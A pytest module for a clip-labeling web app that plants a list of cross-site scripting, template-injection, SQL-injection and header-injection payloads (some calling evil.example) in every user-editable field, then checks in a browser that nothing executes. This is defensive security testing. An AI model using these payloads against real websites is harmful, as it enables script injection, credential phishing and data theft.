"""Text that wants to be more than text, in every field that somebody outside may fill, and every page of every role opened in a real browser: nothing of it runs, all is seen.

Pages come from the route table, so a new one is opened, too; a new parameter of a page, and a new column of text, fail until they are named here.
"""

from __future__ import annotations

import json
import shutil
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import torch
from fastapi.routing import APIRoute
from sqlalchemy import String, Text, func, insert, select, update

from base_model.video.store import ClipStore
from reward.app import attention, importing, labeling, reviewing, security, worker
from reward.app.access import ROLES, Public, rule_of
from reward.app.log import canonical
from reward.app.schema import answer, clip, event, invitation, membership, metadata, person_private, prompt, tombstone
from reward.app.schema import threshold as thresholds
from reward.app.store import Store, new_id, open_store
from reward.app.web import HIDDEN, AppSettings, make_app
from tests.reward.app.conftest import Client, add_member, add_project, film, serving
from tests.reward.app.test_access import PREVIEW

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Page

MARK = "data-hostile"
RUN = "window.__ran=1"
PAYLOADS = (
    f"<script {MARK}>{RUN}</script>",
    f"<img {MARK} src=x onerror={RUN}>",
    f"<img {MARK} src=//evil.example/pixel>",
    f'"><script {MARK} src=//evil.example/x.js></script>',
    f"'><svg {MARK} onload={RUN}>",
    f'" autofocus tabindex=1 onfocus={RUN} {MARK}="',
    f"' onmouseover={RUN} {MARK}='",
    f"` onclick={RUN} {MARK} x=`",
    f"javascript:{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    f"<a {MARK} href=javascript:{RUN}>here</a>",
    f"<iframe {MARK} srcdoc='<script>parent.__ran=1</script>'></iframe>",
    f"<iframe {MARK} src=//evil.example/frame></iframe>",
    f"<object {MARK} data=//evil.example/o></object><embed {MARK} src=//evil.example/e>",
    f"<svg {MARK}><script>{RUN}</script><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg {MARK}><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"</title><script {MARK}>{RUN}</script>",
    f"</textarea><script {MARK}>{RUN}</script>",
    f"</option></select><img {MARK} src=x onerror={RUN}>",
    f"--><img {MARK} src=x onerror={RUN}><!--",
    f"]]><img {MARK} src=x onerror={RUN}><![CDATA[",
    f"<style {MARK}>body {{ display: none; background: url(//evil.example/css) }}</style>",
    f"<link {MARK} rel=stylesheet href=//evil.example/s.css><base {MARK} href=//evil.example/>",
    f"<meta {MARK} http-equiv=refresh content='0;url=//evil.example/'>",
    f"<form {MARK} action=//evil.example/ method=post><input name=login><button>Log in</button></form>",
    f"<details {MARK} open ontoggle={RUN}><summary>x</summary></details>",
    f"<video {MARK} src=x onerror={RUN}></video><audio {MARK} src=x onerror={RUN}>",
    f"<math {MARK}><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<noscript><p title='</noscript><img {MARK} src=x onerror={RUN}>'></noscript>",
    f"<div {MARK} hx-get=/api/account hx-trigger=load hx-on::load={RUN}>",
    f"<div {MARK} hx-vals='js:{{a: {RUN}}}' hx-trigger=load hx-post=/api/logout></div>",
    '{{ "hos" ~ "tile49" }}{% set x = 1 %}{{ self.__init__.__globals__ }}',
    '${"hos" + "tile49"} #{"hos" + "tile49"} <%= "hos" + "tile49" %>',
    "&lt;script&gt;&#60;img&#62;&amp;",
    f"\\u003cscript {MARK}\\u003e{RUN}\\u003c/script\\u003e \\x3cimg\\x3e",
    "\u202egpj.exe\u202c\u2066turned\u2069\u200b\ufeff\u200f\U000e0041",
    f"＜script {MARK}＞{RUN}＜/script＞ %3Cscript%3E +ADw-script+AD4-",
    f"\u2028{RUN}\u2029",
    f"expression({RUN}) url(//evil.example/u) @import '//evil.example/i'; x:behavior(url(#))",
    "'; DROP TABLE answer; -- \" OR 1=1 \\",
    "\r\nSet-Cookie: rushes=stolen\r\n\r\n<html>",
)
COMPUTED = "hostile49"
"""What the templates among them would come to."""
SEES = """() => ({
  ran: window.__ran, broken: window.__broken, elements: [...document.querySelectorAll("[data-hostile]")].map((each) => each.outerHTML.slice(0, 200)),
  handlers: [...document.querySelectorAll("*")].flatMap((each) => [...each.attributes].map((at) => at.name).filter((name) => /^(on|hx-on)/.test(name))),
  links: [...document.querySelectorAll("[href], [src], [action]")].flatMap((each) => ["href", "src", "action"].map((name) => each.getAttribute(name)).filter(Boolean))
    .filter((to) => !to.startsWith("/") || to.startsWith("//")).filter((to) => !to.startsWith("#")),
  text: document.title + " " + document.body.innerText
    + [...document.querySelectorAll("[title], [aria-label], [alt]")].map((each) => ["title", "aria-label", "alt"].map((name) => each.getAttribute(name)).join(" ")).join(" "),
  held: document.body.textContent + [...document.querySelectorAll("input, textarea")].map((each) => each.value).join(" "),
})"""


def hostile(name: str, first: int = 0) -> str:
    """All payloads, one of them at the very beginning, and the field's name so that it is found on a page."""
    return PAYLOADS[first % len(PAYLOADS)] + f" «{name}» " + " ".join(PAYLOADS)


def short(name: str, first: int, most: int = 200) -> str:
    """As many payloads as go into a field of few characters."""
    return f"{PAYLOADS[first % len(PAYLOADS)]} «{name}»"[:most]


def printable(name: str, first: int) -> str:
    return "".join(c if c.isprintable() else " " for c in short(name, first))


@dataclass
class Hostile:
    """A store full of such text, and where the people of each role find things of their own."""

    store: Store
    settings: AppSettings
    project_id: str
    people: dict[str, str]  # role -> person
    objects: dict[tuple[str, str], list[str]] = field(default_factory=dict)  # (parameter, role) -> ids
    queries: dict[str, list[str]] = field(default_factory=dict)  # page -> queries


RULED = {"score": 0.3, "threshold": 0.5, "policy_version": hostile("policy version")}
REASON = {"text": hostile("reason"), "start": None, "end": None, "span": hostile("span")}


def ruling(verdict: str, number: int, policy: str = "P17") -> dict[str, Any]:
    return {**RULED, "verdict": verdict, "policy": policy, "filter": short("filter", number), "reasons": [REASON, hostile("bare reason"), {"text": 7}, None]}


def a_run(folder: Path) -> None:
    """A clip store whose every text is hostile: 12 prompts of 3 clips, most of them allowed."""
    made = ClipStore(folder)
    for number in range(36):
        verdict = ("allow", "allow", "allow", "review", "block", "error")[number // 3 % 6]
        rulings = [ruling(verdict, number % 2), ruling("allow" if verdict == "allow" else "review", 3, short("policy", number % 3, 60))]
        told = {"verdict": verdict, "rulings": rulings, "more": hostile("decision")}
        made.add(
            torch.full((2, 3, 16, 16), number / 40), prompt=hostile("prompt", number // 3), prompt_id=short("prompt id", number // 3), seed=number,
            sampler={hostile("key"): hostile("value")},
            lineage=hostile("generator", number), fps=12.0, extra={"x": hostile("extra")}, licence=hostile("licence"), safety=told, preview=False,
        )  # fmt: skip


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory, sqlite_template: Path) -> Iterator[Hostile]:
    folder = tmp_path_factory.mktemp("hostile")
    shutil.copytree(sqlite_template, folder / "store")
    store, root = open_store(folder / "store"), folder / "runs"
    safe = {
        "instructions": hostile("instructions"), "consent": hostile("consent"), "guideline_version": "«guideline»<svg/onload=__ran=1>\u202e",
        "labeling": {"takes": 3, "overlap": 6, "practice": 0, "least_watched": 0.0, "mixture": {"active": 1, "random": 0, "gold": 0, "repeat": 0, "mirrored": 0},
                     "dimensions": [{"name": "overall", "question": hostile("question")[:400]}], "likert": True, "confidence": True},
        "reviewing": {"second_share": 0.0, "undo_seconds": 0, "hide_filter": False},
    }  # fmt: skip
    project_id = add_project(store, hostile("project"), **safe)
    people = {role: add_member(store, f"{role} {hostile('login')}", role, project_id=project_id) for role in ROLES}
    found = Hostile(store, AppSettings(import_roots=(root,)), project_id, people)
    fill(found, root)
    yield found
    worker._shared.close()
    store.close()


def fill(world: Hostile, root: Path) -> None:
    store, project_id = world.store, world.project_id
    rendered = worker.render(film(0))
    run = folder_named(root)
    a_run(run)
    clients = {role: signed_in(world, role) for role in ROLES}
    with store.writing() as db:
        for number, (role, person_id) in enumerate(world.people.items()):
            db.execute(update(person_private).where(person_private.c.person_id == person_id).values(name=hostile("name", number)))
            db.execute(insert(membership), {"person_id": person_id, "project_id": project_id, "role": short("role", number), "since": 1})
            security.make_token(store, db, clients[role].me, hostile("token", number), 9)
        token = {"project_id": project_id, "roles": [hostile("invited role")], "invited_by": short("invited by", 1), "created_at": store.now(), "expires_at": store.now() + 10**9}
        db.execute(insert(invitation), {"id": new_id("i"), "token_hash": security.sha256("a-token"), **token})
    for number in range(2):
        importing.import_run(store, project_id, run, printable("run", number), clients["lead"].me.pseudonym, render=lambda _: rendered)
    with store.writing() as db:
        db.execute(update(clip).where(clip.c.id.in_(select(clip.c.id).limit(12))).values(run=hostile("run", 3)))
        db.execute(update(prompt).values(lang=short("lang", 5), kind=short("kind", 5)))
        texts = {"width", "height", "fps", "num_frames", "duration_s"}
        for row in db.execute(select(clip.c.id, clip.c.row)).all():
            db.execute(update(clip).where(clip.c.id == row.id).values(row={name: value if name in texts else hostile(name) for name, value in row.row.items()}))
        labeling.make_tasks(store, db, project_id, clients["lead"].me)
        labeling.make_demonstrations(store, db, project_id, clients["lead"].me)
    rank(world, clients["labeler"])
    review(world, clients)
    lead(world, clients["lead"], run)
    with store.writing() as db:  # last: the chain of hashes does not hold any more
        for number in range(3):
            seq = db.execute(select(func.max(event.c.seq))).scalar_one() + 1
            told = {name: hostile(f"event {name}", number) for name in ("actor", "kind", "subject", "body", "prev")}
            told |= {"subject": project_id} if number else {}
            db.execute(insert(event), {"seq": seq, "at": store.now(), "hash": hostile("event hash", number), **told})
    clients["labeler"].post(f"/api/projects/{project_id}/label/consent").raise_for_status()


def folder_named(root: Path) -> Path:
    """A folder whose name, and the names of two files in one beside it, are hostile."""
    run, files = (root / printable(name, 3).replace("/", "⁄")[:80] for name in ("folder", "files"))
    files.mkdir(parents=True)
    lines = [{"file_name": hostile("file name"), "text": hostile("caption")}, {"file_name": hostile("file name", 3)}]
    (files / "metadata.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
    return run


def signed_in(world: Hostile, role: str) -> Client:
    client = Client(world.store, settings=world.settings)
    with world.store.writing() as db:
        cookie = security.begin_session(world.store, db, world.people[role], hostile("client"))
    client.cookies["rushes"] = cookie
    actor = security.actor_of_session(world.store, cookie)
    assert actor is not None
    client.me = actor
    client.headers["x-csrf"] = actor.csrf
    return client


def rank(world: Hostile, labeler: Client) -> None:
    """One answer with everything that people write, one that holds what the API refuses, and a draft of each kind of task."""
    store, project_id = world.store, world.project_id
    attention.consent(store, labeler.me, project_id)
    asked = f"/api/projects/{project_id}/label/next"
    watched = {"watched": [1.0] * 3, "watch_ms": [9] * 3, "lead_time_ms": 9}
    first = labeler.post(asked, json={}).json()["go"]
    answered = {"id": new_id("z"), "ranks": {"overall": [1, 2, 3]}, "likert": [1, 2, 3], "confidence": 1.0, "comment": hostile("comment")[:2000], **watched}
    labeler.post(f"/api{first}/answer", json=answered).raise_for_status()
    with store.writing() as db:
        row = db.execute(select(answer)).one()
        told = {name: hostile(name) for name in ("guideline_version", "app_version", "asked", "comment")}
        for number in range(3):
            blank = {"id": new_id("n"), "version": 2 + number, "at": row.at + number}
            body = {**row.body, **told, "ranks": {short("dimension", 3): [1, 2, 3]}}
            db.execute(insert(answer), {**row._asdict(), **blank, "body": body})
    choose = labeler.post(asked, json={"work": "demonstration"}).json()["go"]
    caption = {"id": new_id("z"), "accepted": [True] * 3, "caption": hostile("caption"), **watched}
    labeler.post(f"/api{choose}/demonstrate", json=caption).raise_for_status()
    mine = []
    for work in ("rank", "demonstration"):
        go = labeler.post(asked, json={"work": work, "besides": mine[-1].rpartition("/")[2] if mine else None}).json()["go"]
        said = labeler.get(f"/api{go}").json()
        draft = {"said": {"step": 0, "ranks": {"overall": [None] * 3}, "allBad": False, "broken": [], "unsafe": {}, "likert": [None] * 3, "confidence": hostile("sure"),
                          "comment": hostile("draft comment"), "accepted": [None] * 3, "best": None, "caption": hostile("draft caption")},
                 "answerId": hostile("answer id"), "spent": 0, "seen": [[0] * 20] * 3, "ms": [0] * 3}  # fmt: skip
        labeler.post(f"/api{go}/draft", json={"draft": draft}).raise_for_status()
        assert said["work"] == work
        mine.append(go)
    world.objects["assignment_id", "labeler"] = [go.rpartition("/")[2] for go in mine]


def review(world: Hostile, clients: dict[str, Client]) -> None:
    """Readings that are open with a draft, decided, appealed and restricted, each with what people wrote."""
    store, project_id = world.store, world.project_id
    later = iter(range(1, 10_000))
    kept, began = store.now, store.now()
    store.now = lambda: began + 1_000 * next(later)

    def take(role: str, queue: str) -> str:
        answered = clients[role].post(f"/api/review/{project_id}/next", json={"queue": queue})
        answered.raise_for_status()
        return str(answered.json()["done"])

    def decide(role: str, reading_id: str, **more: Any) -> str:
        said = {"id": new_id("v"), "said": "not_violating", "rationale": hostile("rationale"), "policy_version": reviewing.policy_version(), **more}
        clients[role].post(f"/api/reading/{reading_id}/decide", json=said).raise_for_status()
        return str(said["id"])

    def draft(role: str, reading_id: str) -> None:
        clients[role].post(f"/api/reading/{reading_id}/draft", json={"rationale": hostile("draft rationale")}).raise_for_status()

    read = take("reviewer", "review")
    contested = decide("reviewer", read)
    passed_on = take("reviewer", "review")
    decide("reviewer", passed_on, escalate=True)
    mine = take("reviewer", "review")
    draft("reviewer", mine)
    clients["lead"].post(f"/api/review/{project_id}/appeal", json={"review_id": contested, "reason": hostile("appeal")}).raise_for_status()
    escalated = take("senior", "escalation")
    decide("senior", escalated)
    appealed = take("senior", "appeals")
    draft("senior", appealed)
    with store.writing() as db:
        allowed = db.execute(select(clip.c.id).where(clip.c.verdict == "block").limit(1)).scalar_one()
        reviewing.flag(store, db, clip=allowed, policies=("P04",), source="a_none", by=clients["labeler"].me)
        db.execute(insert(tombstone), {"id": new_id("b"), "kind": "clip", "ref": hostile("ref"), "reason": hostile("tombstone"), "by": hostile("by"), "at": 1})
    restricted = take("child_safety", "flagged")
    draft("child_safety", restricted)
    world.objects |= {("reading_id", "reviewer"): [read, mine], ("reading_id", "senior"): [escalated, appealed], ("reading_id", "child_safety"): [restricted]}
    store.now = kept


def lead(world: Hostile, client: Client, run: Path) -> None:
    """Proposals, sign-offs, an import and its report; then every number is worked out."""
    store, project_id = world.store, world.project_id
    base = f"/api/projects/{project_id}/lead"
    client.post(f"{base}/audit").raise_for_status()
    with store.writing() as db:
        for number, state in enumerate(("proposed", "approved", "refused")):
            named = {"filter": hostile("proposed filter", number), "policy": short("proposed policy", number)}
            values = {**named, "old": 0.5, "new": 0.4, "preview": {**PREVIEW, **named}, "proposed_by": hostile("proposed by"), "proposed_at": 1, "state": state}
            decided = {} if state == "proposed" else {"decided_by": hostile("decided by"), "decided_at": 1}
            db.execute(insert(thresholds), {"id": new_id("h"), "project_id": project_id, **values, **decided})
    folders = client.get(f"{base}/import").json()["folders"]
    (files,) = [each for each in folders if "«files»" in each]
    client.post(f"{base}/import", json={"folder": files, "run": printable("imported", 1)}).raise_for_status()
    wait(lambda: client.get(f"{base}/import").json()["job"]["state"] != "running")
    name = client_run(client, base)
    from urllib.parse import quote

    look = f"{base}/signoffs?run={quote(name)}"
    wait(lambda: answered(client, look)["evidence"] is not None)
    for number, approved in enumerate((True, False)):
        wait(lambda: answered(client, look)["standing"]["state"] == "fresh")
        signed = {"run": name, "approved": approved, "statement": hostile("statement", number), "seen": client.get(look).json()["seen"]}
        client.post(f"{base}/signoffs", json=signed).raise_for_status()
    choice = quote(f"P17 {short('filter', 0)}")
    world.queries = {
        "/projects/{project_id}/lead/signoffs": ["", f"?run={quote(name)}"],
        "/projects/{project_id}/lead/thresholds": ["", f"?choice={choice}&new=0.4", f"?choice={quote(short('asked', 1))}&new=0.4"],
        "/log": ["", *(f"?{name}={quote(short('asked', 1, 40))}" for name in ("kind", "actor", "subject"))],
    }
    for page in ("", "/agreement", "/filters", "/thresholds", "/import"):
        wait(lambda page=page: client.get(base + page).json().get("standing", {}).get("state") not in ("computing", "failed"))


def client_run(client: Client, base: str) -> str:
    """A run that can be asked about: names of some are longer than an address may hold, and their order is that of the clips."""
    asked: list[str] = []

    def found() -> bool:
        asked[:] = [name for name, *_ in client.get(f"{base}/signoffs").json()["runs"] if len(name) <= 200]
        return bool(asked)

    wait(found)
    return asked[0]


def answered(client: Client, path: str) -> dict[str, Any]:
    answer = client.get(path)
    assert answer.status_code == 200, (answer.status_code, answer.text[:300])
    told: dict[str, Any] = answer.json()
    return told


def wait(holds: Any, seconds: float = 40.0) -> None:
    end = time.monotonic() + seconds
    while not holds():
        assert time.monotonic() < end
        time.sleep(0.2)


OURS = {
    "api_token.token_hash", "invitation.token_hash", "session.id_hash", "session.csrf", "person_private.password_hash", "person.state", "project.state", "clip.clip_id",
    "clip.verdict", "clip.state", "task.kind", "task.state", "assignment.purpose", "assignment.state", "withdrawal.ref", "withdrawal.kind", "item.queue", "item.state",
    "clip.made_of", "reading.state", "review.said",
    "reveal.level", "review.policy_version", "threshold.state", "tombstone.kind", "private_text.id", "review.rationale", "person.pseudonym", "invitation.used_by",
    "event.hash",
}  # fmt: skip
"""Texts that the server makes, or takes from a list of its own. Everything else that is text somebody outside may fill, but for ids and references to them."""


def test_every_column_of_text_was_filled_or_is_the_servers_own(world: Hostile) -> None:
    filled = set()
    texts = {f"{table.name}.{column.name}": column for table in metadata.tables.values() for column in table.columns if isinstance(column.type, String | Text)}
    for name, column in texts.items():
        with world.store.reading() as db:
            if db.execute(select(column).where(column.like("%«%")).limit(1)).first():
                filled.add(name)
    ids = {
        name
        for name, column in texts.items()
        if column.primary_key or column.foreign_keys or name.rpartition(".")[2] in ("id", "project_id", "person_id", "source", "clip", "task_id")
    }
    assert texts.keys() - filled - OURS - ids == set()
    assert len(filled) > 20 and not OURS & filled - {"event.hash"}


def pages_of(world: Hostile, role: str | None) -> list[str]:
    """The address of every page that a role may open, out of the route table, with each query that shows what was asked."""
    found = []
    for route in make_app(world.store).routes:
        if (
            not isinstance(route, APIRoute)
            or "GET" not in route.methods
            or route.path.startswith(("/api/", "/static/", "/media/", "/review-media/"))
            or route.path.endswith(".yaml")
        ):
            continue
        rule = rule_of(route)
        if isinstance(rule, Public) if role is not None else not isinstance(rule, Public):
            continue
        if role is not None and role not in rule.roles:
            continue
        paths = [route.path.replace("{project_id}", world.project_id)]
        for name in set(route.param_convertors) - {"project_id"}:
            values = world.objects.get((name, role), []) if name != "token" else ["a-token"]
            paths = [path.replace("{" + name + "}", value) for path in paths for value in values]
        assert not [path for path in paths if "{" in path], f"say how to make {route.path}"
        found += [path + query for path in paths for query in world.queries.get(route.path, [""])]
    return found


@pytest.fixture(scope="module")
def address(world: Hostile) -> Iterator[str]:
    with serving(world.store, world.settings) as found:
        yield found


@dataclass
class Watched:
    """A page and whatever went wrong in it."""

    page: Page
    wrong: list[str]
    seen: str = ""


def watched(context: BrowserContext, address: str) -> Watched:
    """A page that notes dialogs, faults, broken policies, requests that leave the server's origin, and answers that are bugs."""
    context.add_init_script("document.addEventListener('securitypolicyviolation', (event) => (window.__broken ??= []).push(`${event.violatedDirective} ${event.blockedURI}`))")
    found = Watched(context.new_page(), [])
    found.page.on("dialog", lambda dialog: (found.wrong.append(f"dialog {dialog.message}"), dialog.dismiss()))
    found.page.on("pageerror", lambda error: found.wrong.append(f"fault {error}"))
    found.page.on("console", lambda message: found.wrong.append(f"console {message.text}") if message.type == "error" else None)
    found.page.on("popup", lambda page: found.wrong.append(f"popup {page.url}"))
    found.page.on("request", lambda request: None if request.url.startswith(f"{address}/") else found.wrong.append(f"request {request.url}"))
    found.page.on("response", lambda response: found.wrong.append(f"bug {response.url}") if response.status >= 500 else None)
    return found


def look(found: Watched, url: str, shown: bool = True) -> None:
    """Opens a page, and asserts that nothing of any payload is anything but text."""
    page = found.page
    answered = page.goto(url)
    assert answered is not None and answered.status == 200, f"{url}: {answered and answered.status}"
    page.wait_for_timeout(120)  # what would run by itself has its chance
    if page.locator("#screen").count():
        page.locator(".take").first.wait_for()
    if page.locator("#decision").count():
        page.locator("#still:not([hidden])").wait_for()
    for each in page.locator("summary").all():
        each.evaluate("summary => { summary.parentElement.open = true }")
    sees = page.evaluate(SEES)
    assert (sees["ran"], sees["broken"], sees["elements"], sees["handlers"], sees["links"]) == (None, None, [], [], []), url
    assert page.url == url, f"{url} went to {page.url}"
    assert COMPUTED not in sees["held"], f"{url}: a template ran"
    hidden = sorted({f"U+{ord(c):04X} in {sees['text'][max(0, at - 60) : at + 20]!r}" for at, c in enumerate(sees["text"]) if c in HIDDEN})
    assert not hidden, f"{url} shows what cannot be seen: {hidden[:3]}"
    assert not found.wrong, f"{url}: {found.wrong}"
    assert len(sees["text"]) > 50 and page.locator("main").is_visible()
    if shown:
        found.seen += sees["held"]


SEEN = {
    "labeler": ("name", "project", "instructions", "guideline", "question", "prompt", "draft comment", "draft caption", "token"),
    "reviewer": ("name", "prompt", "draft rationale", "filter", "policy", "reason", "project"),
    "senior": ("name", "prompt", "rationale", "appeal", "draft rationale", "filter", "proposed filter", "proposed by"),
    "child_safety": ("name", "prompt", "draft rationale"),
    "lead": ("name", "project", "instructions", "consent", "question", "run", "filter", "dimension", "statement", "proposed filter", "invited role", "role", "event body", "folder",
             "files", "imported", "asked", "event kind"),
    "auditor": ("name", "run", "filter", "dimension", "statement", "proposed filter", "event body"),
}  # fmt: skip
"""Fields that a role sees somewhere: on none of its pages they would be tested by nothing."""


@pytest.mark.parametrize("role", ROLES)
def test_no_text_is_more_than_text_on_any_page_of_a_role(world: Hostile, address: str, browser: Browser, role: str) -> None:
    client = signed_in(world, role)
    context = browser.new_context()
    context.add_cookies([{"name": "rushes", "value": client.cookies["rushes"], "url": address}])
    found, pages = watched(context, address), pages_of(world, role)
    assert len(pages) >= 3
    for path in pages:
        look(found, address + path)
    missing = [name for name in SEEN[role] if f"«{name}»" not in found.seen]
    assert not missing, f"{role} sees no {missing}"
    found.page.goto(f"{address}/projects/{PAYLOADS[0]}/lead")
    assert found.page.evaluate(SEES)["elements"] == [] and found.page.evaluate("window.__ran") is None
    context.close()


def test_no_text_is_more_than_text_for_who_has_not_logged_in(world: Hostile, address: str, browser: Browser) -> None:
    context = browser.new_context()
    found = watched(context, address)
    for path in pages_of(world, None):
        look(found, address + path)
    assert "«project»" in found.seen and "«invited role»" in found.seen
    context.close()


def test_the_checks_of_this_file_find_what_they_look_for(world: Hostile, address: str, browser: Browser) -> None:
    """On a page that writes the payloads as HTML, without a policy of contents, every one of the checks fails."""
    context = browser.new_context()
    found = watched(context, address)
    context.route(
        f"{address}/planted",
        lambda route: route.fulfill(body=f"<!doctype html><main>{'x' * 60}{PAYLOADS[1]}{PAYLOADS[2]}{PAYLOADS[35]}</main>", content_type="text/html; charset=utf-8"),
    )
    context.route("**/evil.example/**", lambda route: route.abort())
    found.page.goto(f"{address}/planted")
    found.page.wait_for_function("window.__ran === 1")
    sees = found.page.evaluate(SEES)
    assert sees["ran"] == 1 and len(sees["elements"]) == 2 and "onerror" in sees["handlers"] and "//evil.example/pixel" in sees["links"]
    assert set(sees["text"]) & HIDDEN and any("evil.example" in each for each in found.wrong)
    context.close()


def test_no_payload_forged_a_header_or_a_line_of_the_log(world: Hostile) -> None:
    """What is asked for in an address, and sent back in an answer, stays in its place."""
    lead = signed_in(world, "lead")
    for number in range(len(PAYLOADS)):
        told = lead.get("/log", params={"actor": short("asked", number, 40)}, headers={"accept": "text/html"})
        assert told.status_code in (200, 422) and "set-cookie" not in told.headers and told.headers["content-type"].startswith(("text/html", "application/json"))
    with world.store.reading() as db:
        bodies = db.execute(select(event.c.body).where(event.c.hash.not_like("%«%"))).scalars().all()
    assert len(bodies) > 20 and not [body for body in bodies if canonical(json.loads(body)) != body or "\n" in body or "«" in body]
